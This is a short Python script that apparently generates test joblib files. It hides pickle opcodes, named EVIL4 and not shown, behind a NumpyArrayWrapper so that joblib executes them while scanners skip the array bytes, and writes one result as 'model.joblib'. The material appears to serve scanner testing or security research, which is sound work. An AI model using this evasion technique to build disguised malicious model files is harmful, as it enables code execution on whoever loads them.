# Opcodes that are left in a frame behind a wrapper: joblib runs them, and whoever steps over the array jumps
# over them.
import bz2
import gzip
import lzma
import zlib

from pickle_asm import *


def dtype(code, hasobject=False):
    flags, order = (63, "|") if hasobject else (0, "<")
    return (stack_global("numpy", "dtype") + args(code, False, True) + REDUCE
            + args(3, order, None, None, None, -1, -1, flags) + BUILD)


def wrapper(shape, kind, **more):
    # The array's bytes follow right behind.
    state = {"shape": shape, "order": "C", "allow_mmap": False, **more}
    body = (stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + MARK
            + b"".join(text(key) + constant(value) for key, value in state.items())
            + text("subclass") + stack_global("numpy", "ndarray") + text("dtype") + kind + SETITEMS)
    return body + BUILD


OBJECTS = dtype("O8", True)
EVIL_FILE = framed(EVIL4 + STOP)


inside = wrapper((4,), dtype("f8")) + POP + EVIL4
save("model.joblib", proto(4) + frame(inside) + bytes(32) + frame(STOP))
save("stop_inside.joblib", proto(4) + frame(inside + STOP) + bytes(32))
